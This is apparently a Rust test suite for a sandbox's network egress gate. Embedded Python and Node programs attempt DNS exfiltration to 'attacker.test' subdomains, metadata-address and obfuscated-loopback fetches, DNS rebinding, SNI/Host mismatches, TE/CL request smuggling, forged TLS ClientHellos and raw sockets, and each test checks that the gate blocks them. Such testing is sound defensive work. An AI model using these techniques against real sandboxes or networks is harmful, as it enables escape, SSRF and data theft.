//! Issue 16's attacks from inside a gated sandbox (native backend, the `untrusted` profile),
//! each judged by what the other side saw: the test DNS server's questions, the test hosts'
//! accepts, Host headers and SNIs, the bait listeners on the gate namespace's loopback and
//! own address, the hosts' ICMP and UDP counters. Where a flag can take the gate away
//! (`--network host`), the same attack is run without it and must get through, which proves
//! the check can fail.

use serde_json::Value;

use crate::{allow_with_ranges, flags, python, refusal_reasons, stdout_ok};

/// The host's network instead of the gate (the attack must then work).
fn host_network() -> Vec<String> {
    flags(&["--network", "host", "--allow-degraded"])
}

#[test]
fn dns_exfiltration_through_unlisted_names_reaches_no_resolver() {
    let Some(world) = crate::world() else { return };
    let code = r#"
import socket, time
start = time.time(); out = []
for name in ["c2VjcmV0.attacker.test", "secret-data.exfil.test", "allowed.test.attacker.test", "xallowed.test"]:
    try:
        socket.getaddrinfo(name, 443); out.append("resolved")
    except socket.gaierror:
        out.append("refused")
# A raw query to the host's resolver, past the stub.
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"\x06direct\x05exfil\x04test\x00\x00\x01\x00\x01"
try:
    s.sendto(query, ("192.0.2.53", 53)); s.recv(512); out.append("answered")
except OSError:
    out.append("blocked")
print(" ".join(out), round(time.time() - start, 1) < 3)
"#;
    let result = python(&world, &allow_with_ranges(&["allowed.test"]), code);
    assert_eq!(
        stdout_ok(&result).trim(),
        "refused refused refused refused blocked True"
    );
    let asked = world.seen.dns_names.lock().unwrap().clone();
    assert!(asked.is_empty(), "the test resolver was asked {asked:?}");
    let refused = result["network"]["counters"]["dns_refused"]
        .as_u64()
        .unwrap();
    assert!(refused >= 4, "{:#}", result["network"]);
    // Without the gate the same program reaches the resolver.
    let escaped = python(&world, &host_network(), code);
    assert!(stdout_ok(&escaped).contains("answered"), "{escaped:#}");
    let asked = world.seen.dns_names.lock().unwrap().clone();
    assert!(
        asked.contains(&"direct.exfil.test".to_string()),
        "{asked:?}"
    );
}

#[test]
fn dns_rebinding_to_loopback_gains_nothing() {
    let Some(world) = crate::world() else { return };
    let code = r#"
import urllib.request, urllib.error
for _ in range(2):
    try:
        print(urllib.request.urlopen("http://rebind.test/", timeout=10).read().decode().strip())
    except urllib.error.HTTPError as e:
        print(e.code, e.headers.get("X-Airlock-Egress"))
"#;
    let result = python(&world, &allow_with_ranges(&["rebind.test"]), code);
    assert_eq!(
        stdout_ok(&result).lines().collect::<Vec<_>>(),
        ["host=rebind.test", "403 non_public_address"]
    );
    assert_eq!(
        world.seen.accepts("gate", 80),
        0,
        "the loopback bait was reached"
    );
    assert!(refusal_reasons(&result).contains(&"non_public_address".to_string()));
}

/// `http://169.254.169.254/` and every non-public spelling, through the proxy endpoint and
/// transparently; none may reach the gate's loopback or own address, where bait listens.
#[test]
fn metadata_and_every_non_public_form_are_refused() {
    let Some(world) = crate::world() else { return };
    let code = r#"
import socket, urllib.request, urllib.error
hosts = ["169.254.169.254", "2130706433", "0x7f.1", "0177.0.0.1", "127.1", "[::ffff:127.0.0.1]",
         "[64:ff9b::7f00:1]", "[::1]", "[2002:7f00:1::]", "10.0.0.1", "100.64.0.1", "0.0.0.0",
         "meta.test", "loop.test", "nat64.test", "mapped.test", "own.test", "192.0.2.1"]
for host in hosts:
    try:
        urllib.request.urlopen("http://%s/" % host, timeout=10).read(); print(host, "fetched")
    except urllib.error.HTTPError as e:
        print(host, e.headers.get("X-Airlock-Egress"))
    except OSError as e:
        print(host, "error")
# Transparently (the rules above route every address on port 80 to the gate): a request
# gets the gate's refusal, never an answer.
for address in ["169.254.169.254", "127.0.0.1", "192.0.2.1", "10.0.0.1"]:
    try:
        s = socket.create_connection((address, 80), timeout=5)
        s.sendall(b"GET / HTTP/1.1\r\nHost: " + address.encode() + b"\r\n\r\n")
        head = s.recv(4096).decode(errors="replace")
        refusal = [l.split(":", 1)[1].strip() for l in head.split("\r\n") if l.lower().startswith("x-airlock-egress:")]
        print(address, refusal[0] if refusal else "answered")
    except OSError as e:
        print(address, "refused")
"#;
    let mut rules = allow_with_ranges(&[
        "meta.test",
        "loop.test",
        "nat64.test",
        "mapped.test",
        "own.test",
    ]);
    rules.extend(flags(&[
        "--allow-net",
        "0.0.0.0/0:80",
        "--allow-net",
        "[::/0]:80",
    ]));
    let result = python(&world, &rules, code);
    for line in stdout_ok(&result).lines() {
        assert!(
            line.ends_with("non_public_address")
                || line.ends_with("own_address")
                || line.ends_with("refused"),
            "{line}: {result:#}"
        );
    }
    for (role, port) in [("gate", 80), ("gate", 443), ("gate", 8080)] {
        assert_eq!(
            world.seen.accepts(role, port),
            0,
            "bait {role}:{port} reached"
        );
    }
    let escaped = python(
        &world,
        &host_network(),
        "import socket; socket.create_connection(('127.0.0.1', 80), timeout=5); print('connected')",
    );
    assert_eq!(stdout_ok(&escaped).trim(), "connected");
    assert_eq!(
        world.seen.accepts("gate", 80),
        1,
        "without the gate the bait is reached"
    );
}

#[test]
fn an_allowed_name_on_a_port_not_allowed_fails_at_once() {
    let Some(world) = crate::world() else { return };
    let code = r#"
import socket, time, urllib.request, urllib.error
start = time.time()
try:
    socket.create_connection(("allowed.test", 8080), timeout=10); print("connected")
except OSError as e:
    print(type(e).__name__)
try:
    urllib.request.urlopen("http://allowed.test:8080/", timeout=10); print("fetched")
except urllib.error.HTTPError as e:
    print(e.code, e.headers.get("X-Airlock-Egress"))
print(time.time() - start < 3)
"#;
    let result = python(&world, &allow_with_ranges(&["allowed.test"]), code);
    let out = stdout_ok(&result);
    let lines: Vec<&str> = out.lines().collect();
    assert!(lines[0].contains("Error"), "{out}");
    assert_eq!(lines[1..], ["403 not_allowed", "True"], "{out}");
    assert_eq!(world.seen.accepts("hosts", 8080), 0);
}

/// A TLS ClientHello naming a denied name inside a CONNECT to an allowed one, the reverse,
/// and a transparent connection with another SNI or none: only the allowed name ever reaches
/// the TLS server.
#[test]
fn sni_must_match_the_allowed_name_both_ways() {
    let Some(world) = crate::world() else { return };
    let code = format!(
        r#"
import os, socket, ssl
port = int(os.environ["HTTPS_PROXY"].rsplit(":", 1)[1])
ctx = ssl.create_default_context(cafile="{ca}"); ctx.check_hostname = False
def tunnel(connect, sni):
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    s.sendall(("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" % (connect, connect)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        b = s.recv(1)
        if not b: break
        head += b
    status = head.split(b"\r\n")[0].decode()
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"); return status + " " + t.recv(200).decode().split("\n")[-2]
    except (OSError, ssl.SSLError):
        return status + " tls-failed"
print(tunnel("allowed.test", "allowed.test"))
print(tunnel("allowed.test", "denied.test"))
print(tunnel("denied.test", "allowed.test"))
for sni in ["other.test", None]:
    s = socket.create_connection(("allowed.test", 443), timeout=10)
    try:
        ctx.wrap_socket(s, server_hostname=sni); print("handshake")
    except (OSError, ssl.SSLError):
        print("tls-failed")
"#,
        ca = world.ca()
    );
    let mut rules = allow_with_ranges(&["allowed.test"]);
    rules.extend(flags(&["--deny-net", "denied.test"]));
    let result = python(&world, &rules, &code);
    assert_eq!(
        stdout_ok(&result).lines().collect::<Vec<_>>(),
        [
            "HTTP/1.1 200 Connection established sni=allowed.test",
            "HTTP/1.1 200 Connection established tls-failed",
            "HTTP/1.1 403 Forbidden tls-failed",
            "tls-failed",
            "tls-failed"
        ]
    );
    let snis: Vec<String> = world
        .tls_snis()
        .into_iter()
        .filter(|s| s != "handshake-failed")
        .collect();
    assert_eq!(
        snis,
        ["allowed.test"],
        "only the allowed name reached the server"
    );
    let reasons = refusal_reasons(&result);
    for expected in ["sni_mismatch", "denied", "sni_missing"] {
        assert!(
            reasons.iter().any(|r| r == expected),
            "{expected} in {reasons:?}"
        );
    }
}

/// Plain HTTP naming another host than the connection's, through the proxy and
/// transparently, and a CONNECT inside an allowed stream.
#[test]
fn the_host_header_must_match_and_no_connect_rides_inside() {
    let Some(world) = crate::world() else { return };
    let code = r#"
import os, socket
port = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
def first_line(s, request):
    s.sendall(request); head = b""
    try:
        while b"\r\n\r\n" not in head:
            b = s.recv(1)
            if not b: return "closed"
            head += b
    except OSError:
        return "reset"
    return head.split(b"\r\n")[0].decode()
p = socket.create_connection(("127.0.0.1", port), timeout=10)
print(first_line(p, b"GET http://allowed.test/ HTTP/1.1\r\nHost: other.test\r\n\r\n"))
t = socket.create_connection(("allowed.test", 80), timeout=10)
print(first_line(t, b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n"))
c = socket.create_connection(("allowed.test", 80), timeout=10)
print(first_line(c, b"CONNECT other.test:80 HTTP/1.1\r\nHost: allowed.test\r\n\r\n"))
"#;
    let result = python(&world, &allow_with_ranges(&["allowed.test"]), code);
    let out = stdout_ok(&result);
    assert!(!out.contains("200"), "{out}");
    assert!(
        !world
            .seen
            .hosts
            .lock()
            .unwrap()
            .iter()
            .any(|h| h.contains("other.test")),
        "another Host reached the server"
    );
    let reasons = refusal_reasons(&result);
    assert!(
        reasons.contains(&"host_mismatch".to_string())
            && reasons.contains(&"connect_in_tunnel".to_string()),
        "{reasons:?}"
    );
}

/// Requests after the first on a kept-alive plain-HTTP connection (transparently, through a
/// CONNECT tunnel and through the proxy's absolute form), and requests smuggled in a body's
/// framing: each names `other.test` on a connection opened for `allowed.test`. The test
/// server keeps connections alive and reads framing as RFC 9112 says, so whatever the gate
/// lets past shows in the hosts it answered. Legitimate keep-alive (two requests for the
/// allowed name, a chunked upload, then a second request) still works.
#[test]
fn every_request_on_a_kept_alive_connection_is_checked() {
    let Some(world) = crate::world() else { return };
    let code = r#"
import os, socket
port = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
OK = b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
def other(head=b"GET / HTTP/1.1\r\nHost: other.test\r\n"):
    return head + b"Connection: close\r\n\r\n"
def answers(s, data, first_alone=False):
    seen = []
    try:
        if first_alone:
            s.sendall(OK); got = b""
            while b"host=allowed.test" not in got:
                b = s.recv(4096)
                if not b: break
                got += b
            seen.append(got)
            data = data[len(OK):]
        s.sendall(data)
        while True:
            b = s.recv(65536)
            if not b: break
            seen.append(b)
    except OSError:
        pass
    text = b"".join(seen).decode(errors="replace")
    hosts = [l.split("=", 1)[1] for l in text.split("\n") if l.startswith("host=")]
    refusal = [l.split(":", 1)[1].strip() for l in text.split("\r\n") if l.lower().startswith("x-airlock-egress:")]
    return " ".join(hosts + refusal) or "closed"
def direct():
    return socket.create_connection(("allowed.test", 80), timeout=10)
def tunnel():
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    s.sendall(b"CONNECT allowed.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n\r\n"); head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(1)
    return s
def proxy():
    return socket.create_connection(("127.0.0.1", port), timeout=10)
chunked_ok = b"POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"
cases = [
    ("sequential", direct, OK + other(), True),
    ("pipelined", direct, OK + other(), False),
    ("absolute", direct, OK + other(b"GET http://other.test/ HTTP/1.1\r\nHost: allowed.test\r\n"), False),
    ("tunnel", tunnel, OK + other(), False),
    ("proxy", proxy, b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n" + other(b"GET http://other.test/ HTTP/1.1\r\nHost: other.test\r\n"), False),
    ("te-cl", direct, b"POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + other(), False),
    ("after-chunked", direct, chunked_ok + other(), False),
    ("bad-chunk", direct, b"POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n5\nhello\r\n0\r\n\r\n" + other(), False),
    ("keep-alive", direct, OK + other(b"GET /2 HTTP/1.1\r\nHost: allowed.test\r\n"), False),
    ("chunked-then", direct, chunked_ok + other(b"GET /2 HTTP/1.1\r\nHost: allowed.test\r\n"), False),
]
for name, opener, data, first_alone in cases:
    print(name, answers(opener(), data, first_alone))
"#;
    let result = python(&world, &allow_with_ranges(&["allowed.test"]), code);
    assert_eq!(
        stdout_ok(&result).lines().collect::<Vec<_>>(),
        [
            "sequential allowed.test",
            "pipelined allowed.test",
            "absolute allowed.test",
            "tunnel allowed.test",
            "proxy allowed.test",
            "te-cl unsafe_request",
            "after-chunked allowed.test",
            "bad-chunk allowed.test",
            "keep-alive allowed.test allowed.test",
            "chunked-then allowed.test allowed.test",
        ]
    );
    let hosts = world.seen.hosts.lock().unwrap().clone();
    assert!(
        hosts.iter().all(|h| h == "allowed.test"),
        "a request for another host reached the server: {hosts:?}"
    );
    let reasons = refusal_reasons(&result);
    for expected in ["host_mismatch", "unsafe_request"] {
        assert!(
            reasons.iter().any(|r| r == expected),
            "{expected} in {reasons:?}"
        );
    }
}

/// Every ClientHello is tied to the name: a second hello after a HelloRetryRequest naming
/// another server (sent after the retry, or pipelined with the first), and an encrypted
/// ClientHello (ECH) whose outer SNI is another name, are refused; a retry naming the allowed
/// name, and GREASE ECH (Chromium's: the outer SNI is the real name), pass. The server on
/// port 4433 answers the first hello with a retry and records every hello it reads.
#[test]
fn every_client_hello_is_tied_to_the_name() {
    let Some(world) = crate::world() else { return };
    let code = r#"
import os, socket, struct
def ext(kind, data):
    return struct.pack("!HH", kind, len(data)) + data
def hello(name, ech=False):
    n = name.encode(); entry = b"\x00" + struct.pack("!H", len(n)) + n
    exts = ext(0, struct.pack("!H", len(entry)) + entry) + ext(0x2b, b"\x02\x03\x04")
    exts += ext(0x0a, b"\x00\x02\x00\x1d") + ext(0x33, b"\x00\x00") + ext(0x0d, b"\x00\x02\x08\x04")
    if ech:
        exts += ext(0xfe0d, b"\x00\x00\x01\x00\x01\x07\x00\x20" + os.urandom(32) + b"\x00\x10" + os.urandom(16))
    body = b"\x03\x03" + os.urandom(32) + b"\x00\x00\x02\x13\x01\x01\x00" + struct.pack("!H", len(exts)) + exts
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs
def read_record(s):
    head = b""
    while len(head) < 5:
        b = s.recv(5 - len(head))
        if not b: return b""
        head += b
    body = b""
    while len(body) < struct.unpack("!H", head[3:5])[0]:
        b = s.recv(4096)
        if not b: break
        body += b
    return head + body
def attempt(first, second=None, pipelined=False, ech=False):
    s = socket.create_connection(("allowed.test", 4433), timeout=10)
    try:
        if pipelined:
            s.sendall(hello(first) + hello(second))
        else:
            s.sendall(hello(first, ech))
            record = read_record(s)
            if not record: return "closed"
            if second is None: return "retry" if record[:1] == b"\x16" else "other"
            s.sendall(b"\x14\x03\x03\x00\x01\x01" + hello(second))
        got = b""
        while True:
            b = s.recv(4096)
            if not b: break
            got += b
        return got[-2:].decode(errors="replace") if got.endswith(b"ok") else "closed"
    except OSError:
        return "reset"
print("retry-allowed", attempt("allowed.test", "allowed.test"))
print("retry-other", attempt("allowed.test", "other.test"))
print("pipelined-other", attempt("allowed.test", "other.test", pipelined=True))
print("grease-ech", attempt("allowed.test", ech=True))
print("ech-public-name", attempt("public.test", ech=True))
"#;
    let mut rules = allow_with_ranges(&["allowed.test:4433"]);
    rules.extend(flags(&["--allow-net", "192.0.2.0/24:4433"]));
    let result = python(&world, &rules, code);
    assert_eq!(
        stdout_ok(&result).lines().collect::<Vec<_>>(),
        [
            "retry-allowed ok",
            "retry-other closed",
            "pipelined-other closed",
            "grease-ech retry",
            "ech-public-name reset",
        ]
    );
    let hellos = world.seen.client_hellos.lock().unwrap().clone();
    assert!(
        !hellos
            .iter()
            .any(|h| h.contains("other.test") || h.contains("public.test")),
        "a hello naming another server reached it"
    );
    assert_eq!(
        hellos.iter().filter(|h| h.contains("allowed.test")).count(),
        5,
        "{hellos:?}"
    );
    let reasons = refusal_reasons(&result);
    for expected in ["sni_mismatch", "ech_refused"] {
        assert!(
            reasons.iter().any(|r| r == expected),
            "{expected} in {reasons:?}"
        );
    }
}

/// Raw TCP and UDP to any address, ICMP and raw sockets: refused at once inside the sandbox
/// (no route, no listener, Landlock's port rules, the socket filter), and nothing reaches the
/// test hosts (their UDP and ICMP counters stay put).
#[test]
fn raw_tcp_udp_and_icmp_reach_nothing() {
    let Some(world) = crate::world() else { return };
    let (udp_before, icmp_before) = (
        world.host_snmp("Udp", "InDatagrams"),
        world.host_snmp("Icmp", "InEchos"),
    );
    let code = r#"
import socket, time, errno
def tcp(host, port):
    try:
        socket.create_connection((host, port), timeout=5); return "connected"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    try:
        s.connect((host, port)); s.send(b"quic?" * 100); s.recv(10); return "answered"
    except OSError as e:
        return errno.errorcode.get(e.errno, "timeout")
def raw(family, proto):
    try:
        socket.socket(family, socket.SOCK_RAW, proto); return "raw-socket"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
start = time.time()
placeholder = socket.getaddrinfo("allowed.test", 443, socket.AF_INET)[0][4][0]
print(tcp("203.0.113.10", 22), tcp("192.0.2.10", 22), tcp("198.51.100.10", 80),
      udp("203.0.113.10", 53), udp(placeholder, 443), udp("192.0.2.53", 53),
      raw(socket.AF_INET, socket.IPPROTO_ICMP), raw(socket.AF_INET6, 58),
      raw(socket.AF_PACKET, 0), round(time.time() - start) < 6)
"#;
    let result = python(&world, &allow_with_ranges(&["allowed.test"]), code);
    let out = stdout_ok(&result);
    let words: Vec<&str> = out.split_whitespace().collect();
    assert_eq!(words.len(), 10, "{out}");
    for (i, word) in words[..9].iter().enumerate() {
        assert!(
            [
                "ENETUNREACH",
                "ECONNREFUSED",
                "EACCES",
                "EPERM",
                "EAFNOSUPPORT"
            ]
            .contains(word),
            "probe {i}: {word} in {out}"
        );
    }
    assert_eq!(words[9], "True", "{out}");
    assert_eq!(
        world.host_snmp("Udp", "InDatagrams"),
        udp_before,
        "a datagram got out"
    );
    assert_eq!(
        world.host_snmp("Icmp", "InEchos"),
        icmp_before,
        "an echo got out"
    );
    assert_eq!(world.seen.accepts("hosts", 22), 0);
    // Without the gate's namespace the same connection reaches the test host.
    let escaped = python(
        &world,
        &host_network(),
        "import socket; socket.create_connection(('203.0.113.10', 22), timeout=5); print('connected')",
    );
    assert_eq!(stdout_ok(&escaped).trim(), "connected");
    assert_eq!(world.seen.accepts("hosts", 22), 1);
}

/// Nothing of the gate is reachable from inside but its listeners: no Unix socket (named or
/// abstract) in the sandbox, no descriptor of the gate's channel in any process the program
/// can see, no listener but the gate's own ports in its namespace.
#[test]
fn the_gates_channel_and_the_hosts_listeners_are_out_of_reach() {
    let Some(world) = crate::world() else { return };
    let code = r#"
import os, socket
unix = [l.split()[-1] for l in open("/proc/net/unix").read().splitlines()[1:] if len(l.split()) > 7]
sockets = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        for fd in os.listdir("/proc/%s/fd" % pid):
            target = os.readlink("/proc/%s/fd/%s" % (pid, fd))
            if target.startswith("socket:"):
                sockets.append(target)
    except OSError:
        pass
listening = set()
for table in ["/proc/net/tcp", "/proc/net/tcp6"]:
    for line in open(table).read().splitlines()[1:]:
        fields = line.split()
        if fields[3] == "0A":
            listening.add(int(fields[1].rsplit(":", 1)[1], 16))
print("unix", unix)
print("sockets", sockets)
print("listening", sorted(listening))
print("found", sorted(found_sockets()))
"#;
    let code = format!("{}{code}", crate::FOUND_SOCKETS);
    let result = python(&world, &allow_with_ranges(&["allowed.test"]), &code);
    let out = stdout_ok(&result);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines[0], "unix []", "{out}");
    assert_eq!(
        lines[1], "sockets []",
        "a process inside holds a socket: {out}"
    );
    assert_eq!(lines[2], "listening [53, 80, 443, 3128]", "{out}");
    assert_eq!(lines[3], "found []", "{out}");
}

/// A program that ignores the proxy variables (Node's fetch, raw sockets with its own DNS
/// lookup) still reaches an allowed name, transparently; another name fails fast.
#[test]
fn programs_ignoring_the_proxy_variables_work_for_allowed_names_only() {
    let Some(world) = crate::world() else { return };
    if !std::path::Path::new("/usr/bin/node").exists() {
        return crate::support::skip("node is not installed");
    }
    let code = r#"
const start = Date.now();
(async () => {
  const ok = await fetch("http://allowed.test/");
  console.log((await ok.text()).trim());
  try { await fetch("http://other.test/"); console.log("fetched"); }
  catch (e) { console.log("refused", Date.now() - start < 5000); }
})();
"#;
    let mut rules = allow_with_ranges(&["allowed.test"]);
    // Node's fetch ignores the proxy variables anyway; drop them to be sure.
    for name in [
        "HTTP_PROXY",
        "http_proxy",
        "HTTPS_PROXY",
        "https_proxy",
        "ALL_PROXY",
        "all_proxy",
        "NODE_USE_ENV_PROXY",
    ] {
        rules.extend(["--env".to_string(), format!("{name}=")]);
    }
    let result = crate::run(&world, &rules, &["/usr/bin/node", "-e", code]);
    assert_eq!(
        stdout_ok(&result).lines().collect::<Vec<_>>(),
        ["host=allowed.test", "refused true"],
        "{result:#}"
    );
    let captured: Vec<&Value> = crate::decisions(&result, "allow")
        .into_iter()
        .filter(|d| d["channel"] == "capture")
        .collect();
    assert_eq!(captured.len(), 1, "{:#}", result["network"]);
}

/// The attacks in one program, for the other backends (a proportionate matrix): unlisted
/// names, the metadata address through the proxy, raw TCP and UDP to a test host, a raw ICMP
/// socket. Judged by the same evidence: the test DNS server asked nothing, no bait reached,
/// no datagram or echo at the test hosts.
const COMPACT: &str = r#"
import errno, socket, time, urllib.request, urllib.error
out = []
for name in ["c2VjcmV0.attacker.test", "allowed.test.attacker.test"]:
    try:
        socket.getaddrinfo(name, 443); out.append("resolved")
    except socket.gaierror:
        out.append("no-address")
try:
    urllib.request.urlopen("http://169.254.169.254/", timeout=10); out.append("metadata")
except urllib.error.HTTPError as e:
    out.append(e.headers.get("X-Airlock-Egress") or str(e.code))
try:
    socket.create_connection(("203.0.113.10", 22), timeout=5); out.append("tcp-connected")
except OSError:
    out.append("tcp-refused")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)
try:
    u.sendto(b"x" * 64, ("192.0.2.53", 53)); u.recv(10); out.append("udp-answered")
except OSError:
    out.append("udp-dropped")
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); out.append("raw-socket")
except OSError:
    out.append("no-raw-socket")
print(" ".join(out))
"#;

fn compact_attacks(backend: &str, extra: &[&str]) {
    let Some(world) = crate::world() else { return };
    let (udp_before, icmp_before) = (
        world.host_snmp("Udp", "InDatagrams"),
        world.host_snmp("Icmp", "InEchos"),
    );
    let mut rules = allow_with_ranges(&["allowed.test"]);
    rules.extend(flags(&["--backend", backend]));
    rules.extend(flags(extra));
    let out = crate::airlock_in(&world, &rules, &[airlock_testworld::PYTHON, "-c", COMPACT]);
    let stderr = crate::support::stderr_text(&out);
    if stderr.contains("backend_unavailable") {
        return crate::support::skip(&format!("{backend}: {stderr}"));
    }
    let result: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{backend}: no result ({e}): {stderr}"));
    assert_eq!(
        stdout_ok(&result).trim(),
        "no-address no-address not_allowed tcp-refused udp-dropped no-raw-socket",
        "{backend}"
    );
    assert!(world.seen.dns_names.lock().unwrap().is_empty(), "{backend}");
    assert_eq!(world.seen.accepts("hosts", 22), 0, "{backend}");
    assert_eq!(
        world.host_snmp("Udp", "InDatagrams"),
        udp_before,
        "{backend}"
    );
    assert_eq!(world.host_snmp("Icmp", "InEchos"), icmp_before, "{backend}");
}

#[test]
fn the_attacks_are_contained_on_bwrap() {
    compact_attacks("bwrap", &[]);
}

#[test]
fn the_attacks_are_contained_on_runc() {
    compact_attacks("container", &["--container-runtime", "runc"]);
}

#[test]
fn the_attacks_are_contained_on_podman() {
    compact_attacks("container", &["--container-runtime", "podman"]);
}

#[test]
fn the_attacks_are_contained_on_gvisor() {
    compact_attacks("gvisor", &["--allow-degraded"]);
}
